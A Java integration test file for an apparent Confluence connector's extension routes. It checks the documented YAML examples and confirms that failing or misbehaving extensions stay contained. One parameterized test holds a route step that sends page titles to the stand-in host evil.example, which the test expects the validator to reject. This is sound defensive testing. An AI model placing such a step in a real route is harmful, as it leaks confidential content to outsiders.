package io.confluenceconnector.sync;

import io.confluenceconnector.cycle.Count;
import io.confluenceconnector.cycle.CycleReport;
import io.confluenceconnector.cycle.ItemFailure;
import io.confluenceconnector.logging.CapturedLog;
import io.confluenceconnector.logging.EventName;
import io.confluenceconnector.routes.RouteFiles;
import io.confluenceconnector.routes.RouteFilesRejectedException;
import io.confluenceconnector.simulator.confluence.Fault;
import io.confluenceconnector.simulator.confluence.SimContent;
import io.confluenceconnector.simulator.confluence.SimSpace;
import io.confluenceconnector.simulator.platform.StoredContent;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static io.confluenceconnector.simulator.confluence.ConfluenceSimulator.FOR_EVER;
import static io.confluenceconnector.sync.SampleWiki.bytes;
import static io.confluenceconnector.sync.TenantFixture.ALL;
import static io.confluenceconnector.sync.TenantFixture.SINGLE;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/** Extension points: the examples of {@code docs/extensions.md} do what they say, and mistakes in such routes stay small. */
class ExtensionsIT {

    @TempDir
    private Path folder;

    /** The shipped routes, one extension point replaced. */
    private TenantFixture.Builder with(Setup setup, String point, String yaml) {
        RouteFiles.read(Path.of("routes")).texts().forEach((name, text) -> write(name, text));
        write("extensions/" + point + ".camel.yaml", yaml);
        return TenantFixture.of(setup).routes(folder);
    }

    private void write(String name, String yaml) {
        try {
            Files.createDirectories(folder.resolve(name).getParent());
            Files.writeString(folder.resolve(name), yaml);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A block of the guide, so that the guide cannot be wrong. */
    private static String example(String name) {
        try {
            Matcher block = Pattern.compile("(?s)<!-- example: " + name + " -->\n```yaml\n(.*?)```")
                    .matcher(Files.readString(Path.of("docs/extensions.md")));
            if (!block.find()) {
                throw new IllegalArgumentException("the guide has no example " + name);
            }
            return block.group(1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A route with these steps, indented by eight blanks. */
    private static String route(String point, String steps) {
        return """
                - route:
                    id: extension-%s
                    from:
                      uri: direct:extension-%s
                      steps:
                """.formatted(point, point) + steps;
    }

    private static String throwing(String point) {
        return route(point, """
                        - throwException:
                            id: fail-on-purpose
                            exceptionType: java.lang.IllegalStateException
                            message: secret content
                """);
    }

    private static SimSpace space(TenantFixture tenant) {
        return tenant.confluence.space("DOC", "Documentation", "global");
    }

    private static List<String> titles(TenantFixture tenant) {
        return tenant.platform.contents().values().stream().map(StoredContent::title).sorted().toList();
    }

    private static StoredContent stored(TenantFixture tenant, String title) {
        return tenant.platform.contents().values().stream().filter(content -> content.title().equals(title)).findFirst().orElseThrow();
    }

    private static List<String> reasons(CycleReport report) {
        return report.failures().stream().map(ItemFailure::reason).toList();
    }

    @ParameterizedTest
    @EnumSource(value = Setup.class, names = "CLOUD")
    void shouldLeaveDraftsOutAndKeepWhatIsStoredOfThem(Setup setup) {
        try (TenantFixture tenant = with(setup, "select-item", example("select-item")).start(); CapturedLog log = CapturedLog.json()) {
            // given
            SimSpace space = space(tenant);
            SimContent draft = tenant.confluence.page(space, "Draft", "<p>1</p>", SINGLE, "draft");
            tenant.confluence.attach(draft, "draft.pdf", "application/pdf", bytes("draft"));
            SimContent later = tenant.confluence.page(space, "Later a draft", "<p>1</p>", SINGLE);
            tenant.confluence.attach(later, "later.pdf", "application/pdf", bytes("later"));
            tenant.confluence.page(space, "Final", "<p>1</p>", SINGLE, "drafty");

            // when
            CycleReport first = tenant.cycle();
            List<String> before = titles(tenant);
            String old = stored(tenant, "Later a draft").sha256();
            tenant.confluence.label(later, "draft");
            tenant.confluence.edit(later, "<p>2</p>");
            CycleReport second = tenant.cycle();
            tenant.restart();
            tenant.cycle();
            tenant.cycle();

            // then
            assertThat(before).containsExactly("Final", "Later a draft", "later.pdf");
            assertThat(first.total(Count.VETOED_BY_EXTENSION)).isEqualTo(2);
            assertThat(second.total(Count.VETOED_BY_EXTENSION)).isEqualTo(4);
            assertThat(titles(tenant)).containsExactlyElementsOf(before);
            assertThat(stored(tenant, "Later a draft").sha256()).isEqualTo(old);
            assertThat(log.events(EventName.ITEMS_VETOED).get(0)).containsEntry("spaceKey", "DOC").containsEntry("items", 2)
                    .containsEntry("reason", "labelled draft").containsEntry("stored", "kept");
        }
    }

    @ParameterizedTest
    @EnumSource(value = Setup.class, names = {"CLOUD", "CLOUD_WITHOUT_PAGE_SCOPE", "DATA_CENTER"})
    void shouldRemoveStoredDraftsOnlyWhenToldSo(Setup setup) {
        try (TenantFixture tenant = with(setup, "select-item", example("select-item remove")).start()) {
            // given
            SimSpace space = space(tenant);
            SimContent later = tenant.confluence.page(space, "Later a draft", "<p>1</p>", SINGLE);
            tenant.confluence.attach(later, "later.pdf", "application/pdf", bytes("later"));
            tenant.confluence.page(space, "Final", "<p>1</p>", SINGLE);
            tenant.cycle();
            tenant.confluence.label(later, "draft");

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(titles(tenant)).containsExactly("Final");
            assertThat(report.total(Count.DELETED)).isEqualTo(2);
            assertThat(report.total(Count.DELETIONS_VETOED)).isZero();
        }
    }

    /** P12: a route that leaves out a whole space does not remove it. */
    @ParameterizedTest
    @ValueSource(strings = {"select-item", "select-item remove"})
    void shouldKeepSpaceOfWhichEverythingIsLeftOut(String example) {
        try (TenantFixture tenant = with(Setup.CLOUD, "select-item", example(example)).start()) {
            // given
            SimContent page = tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);
            tenant.confluence.page(tenant.confluence.space("HR", "People", "global"), "Other", "<p>1</p>", SINGLE);
            tenant.cycle();
            tenant.confluence.label(page, "draft");

            // when
            for (int i = 0; i < 4; i++) {
                assertThat(tenant.cycle().failure()).isEmpty();
            }

            // then
            assertThat(titles(tenant)).containsExactly("Other", "Page");
        }
    }

    @ParameterizedTest
    @EnumSource(value = Setup.class, names = "DATA_CENTER")
    void shouldStripMacroAndLeaveEveryOtherByte(Setup setup) {
        try (TenantFixture tenant = with(setup, "transform-page", example("transform-page")).ingestion(PageImagesIT.INLINING).start()) {
            // given
            String toc = "<ac:structured-macro ac:name=\"toc\"><ac:parameter ac:name=\"maxLevel\">2</ac:parameter></ac:structured-macro>";
            String body = "<p>not closed <b>é\u001c 🎉 &nbsp;%s<ac:structured-macro ac:name=\"info\"><ac:rich-text-body>%s</ac:rich-text-body>"
                    + "</ac:structured-macro><![CDATA[" + toc + "]]>%s";
            SimSpace space = space(tenant);
            SimContent page = tenant.confluence.page(space, "Page",
                    body.formatted(toc, toc, "<ac:image><ri:attachment ri:filename=\"a.png\"/></ac:image>"), SINGLE);
            tenant.confluence.attach(page, "a.png", "image/png", bytes("abc"));
            tenant.confluence.page(space, "Plain", "<p>plain \uFEFF</p>", SINGLE);

            // when
            tenant.cycle();

            // then
            assertThat(stored(tenant, "Page").sha256()).isEqualTo(PageImagesIT.sha256(bytes(
                    body.formatted("", "", "<img src=\"data:image/png;base64,YWJj\" alt=\"a.png\"/>"))));
            assertThat(stored(tenant, "Plain").sha256()).isEqualTo(PageImagesIT.sha256(bytes("<p>plain \uFEFF</p>")));
        }
    }

    @ParameterizedTest
    @EnumSource(value = Setup.class, names = {"CLOUD", "DATA_CENTER"})
    void shouldAddPathOfPageAsMetadata(Setup setup) {
        try (TenantFixture tenant = with(setup, "add-metadata", example("add-metadata")).processing("reconcileEveryCycles: 1").start()) {
            // given
            SimContent top = tenant.confluence.page(space(tenant), "Handbook", "<p>1</p>", ALL);
            SimContent page = tenant.confluence.page(tenant.confluence.page(top, "Travel & more", "<p>1</p>"), "Rail", "<p>1</p>");
            tenant.confluence.attach(page, "map.pdf", "application/pdf", bytes("map"));

            // when
            tenant.cycle();
            tenant.confluence.label(page, "fast");
            tenant.cycle();

            // then
            assertThat(stored(tenant, "Handbook").metadata()).containsEntry("pagePath", "Handbook");
            assertThat(stored(tenant, "map.pdf").metadata()).containsEntry("pagePath", "Handbook / Travel & more / Rail");
            assertThat(stored(tenant, "Rail").metadata()).containsEntry("pagePath", "Handbook / Travel & more / Rail")
                    .as("P14: a change of labels leaves it").containsEntry("confluenceLabels", List.of("fast"))
                    .containsOnlyKeys("confluenceLabels", "spaceKey", "spaceName", "versionTimestamp", "pagePath");
            tenant.confluence.assertNoViolations();
        }
    }

    @Test
    void shouldReactAfterItems() {
        try (TenantFixture tenant = with(Setup.DATA_CENTER, "after-item", example("after-item")).start(); CapturedLog log = CapturedLog.json()) {
            // given
            SimContent page = tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);
            tenant.confluence.attach(page, "good.pdf", "application/pdf", bytes("good"));
            tenant.confluence.attach(page, "bad.pdf", "application/pdf", bytes("bad"));
            tenant.confluence.fault(request -> request.path().endsWith("bad.pdf"), FOR_EVER, Fault.status(404));

            // when
            tenant.cycle();

            // then
            assertThat(log.events()).filteredOn(event -> "our-alarms".equals(event.get("logger"))).singleElement()
                    .satisfies(event -> assertThat(event).containsEntry("level", "ERROR").containsEntry("tenantName", "acme")
                            .hasEntrySatisfying("message", text -> assertThat(text.toString()).startsWith("An item has failed in cycle ")));
        }
    }

    /** A ConfigMap has no folders: the files of the extension points may lie beside the others. */
    @Test
    void shouldFindExtensionPointsBesideOtherRoutes() {
        RouteFiles.read(Path.of("routes")).texts().forEach((name, text) -> write(name.replace("extensions/", ""), text));
        write("select-item.camel.yaml", example("select-item"));
        try (TenantFixture tenant = TenantFixture.of(Setup.CLOUD).routes(folder).start()) {
            // given
            tenant.confluence.page(space(tenant), "Draft", "<p>1</p>", SINGLE, "draft");

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(report.total(Count.VETOED_BY_EXTENSION)).isEqualTo(1);
            assertThat(tenant.platform.contents()).isEmpty();
        }
    }

    /** S10: only reasons that stand in the route file as they are can be known to hold no title. */
    @Test
    void shouldNotShowReasonThatIsComputed() {
        String steps = """
                        - setProperty:
                            name: veto
                            simple: "about ${body.title}"
                """;
        try (TenantFixture tenant = with(Setup.CLOUD, "select-item", route("select-item", steps)).start(); CapturedLog log = CapturedLog.json()) {
            // given
            tenant.confluence.page(space(tenant), "Layoffs", "<p>1</p>", SINGLE);

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(report.total(Count.VETOED_BY_EXTENSION)).isEqualTo(1);
            assertThat(log.events(EventName.ITEMS_VETOED)).singleElement().satisfies(event -> assertThat(event)
                    .containsEntry("reason", "a reason that the extension computes, which is not shown"));
            assertThat(log.written()).doesNotContain("Layoffs");
        }
    }

    /** S24: an extension is checked like every route, and named with its folder. */
    @ParameterizedTest
    @ValueSource(strings = {"toD: {uri: 'https://evil.example/${body.title}'}", "setBody: {groovy: 'body'}",
        "log: {message: '${body.title}'}", "setProperty: {name: veto, constant: draft, Constant: '${body.title}'}"})
    void shouldRefuseExtensionThatDoesMoreThanRoutesMay(String step) {
        // given
        TenantFixture.Builder tenant = with(Setup.CLOUD, "select-item", route("select-item", "        - " + step + "\n"));

        // when
        ThrowingCallable start = tenant::start;

        // then
        assertThatExceptionOfType(RouteFilesRejectedException.class).isThrownBy(start)
                .withMessageContaining("extensions/select-item.camel.yaml:");
    }

    /** A mistake fails its items only, names the file, and gives away nothing. */
    @ParameterizedTest
    @ValueSource(strings = {"transform-page", "add-metadata"})
    void shouldFailItemOfExtensionThatFails(String point) {
        try (TenantFixture tenant = with(Setup.CLOUD, point, throwing(point)).start(); CapturedLog log = CapturedLog.json()) {
            // given
            tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(report.failure()).isEmpty();
            assertThat(report.total(Count.PAGES_FAILED)).isEqualTo(1);
            assertThat(reasons(report)).containsExactly("The extension routes/extensions/" + point + ".camel.yaml failed: IllegalStateException");
            assertThat(tenant.platform.contents()).isEmpty();
            assertThat(log.written()).doesNotContain("secret content");
        }
    }

    @Test
    void shouldLeaveItemAloneForWhichSelectionFails() {
        try (TenantFixture tenant = with(Setup.CLOUD, "select-item", example("select-item")).start()) {
            // given
            SimSpace space = space(tenant);
            SimContent page = tenant.confluence.page(space, "Page", "<p>1</p>", SINGLE);
            tenant.cycle();
            write("extensions/select-item.camel.yaml", throwing("select-item"));
            tenant.restart();
            tenant.confluence.edit(page, "<p>2</p>");
            tenant.confluence.page(space, "New", "<p>1</p>", SINGLE);

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(report.failure()).isEmpty();
            assertThat(reasons(report)).hasSize(2).containsOnly("The extension routes/extensions/select-item.camel.yaml failed: IllegalStateException");
            assertThat(titles(tenant)).containsExactly("Page");
            assertThat(stored(tenant, "Page").sha256()).isEqualTo(PageImagesIT.sha256(bytes("<p>1</p>")));
        }
    }

    @Test
    void shouldKeepItemWhoseReactionFails() {
        try (TenantFixture tenant = with(Setup.CLOUD, "after-item", throwing("after-item")).start(); CapturedLog log = CapturedLog.json()) {
            // given
            tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(report.failedItems()).isZero();
            assertThat(titles(tenant)).containsExactly("Page");
            assertThat(log.events(EventName.EXTENSION_FAILED)).singleElement().satisfies(event -> assertThat(event.get("error.message").toString())
                    .contains("after-item.camel.yaml failed: IllegalStateException"));
        }
    }

    /** Whatever an extension sets, stops or empties, the connector's own exchange is untouched. */
    @Test
    void shouldGoOnUntouchedByWhatExtensionsDo() {
        String steps = """
                        - removeProperties:
                            pattern: "*"
                        - setProperty:
                            name: discovery
                            expression:
                              constant:
                                expression: nonsense
                        - setProperty:
                            name: content
                            expression:
                              constant:
                                expression: nonsense
                        - setBody:
                            expression:
                              simple:
                                expression: ${null}
                        - stop: {}
                """;
        TenantFixture.Builder builder = with(Setup.DATA_CENTER, "select-item", route("select-item", steps));
        List.of("add-metadata", "after-item").forEach(point -> write("extensions/" + point + ".camel.yaml", route(point, steps)));
        try (TenantFixture tenant = builder.start()) {
            // given
            SimContent page = tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);
            tenant.confluence.attach(page, "file.pdf", "application/pdf", bytes("file"));

            // when
            tenant.cycle();

            // then
            KnowledgeBaseAssert.assertThat(tenant).holdsExactlyWhatIsSelected();
        }
    }

    @Test
    void shouldFailPageOfWhichNothingIsLeft() {
        String steps = """
                        - setBody:
                            expression:
                              constant:
                                expression: ""
                """;
        try (TenantFixture tenant = with(Setup.CLOUD, "transform-page", route("transform-page", steps)).start()) {
            // given
            tenant.confluence.page(space(tenant), "Page", "<p>1</p>", SINGLE);

            // when
            CycleReport report = tenant.cycle();

            // then
            assertThat(reasons(report)).singleElement().asString().contains("transform-page.camel.yaml left no text as body");
            assertThat(tenant.platform.contents()).isEmpty();
        }
    }
}
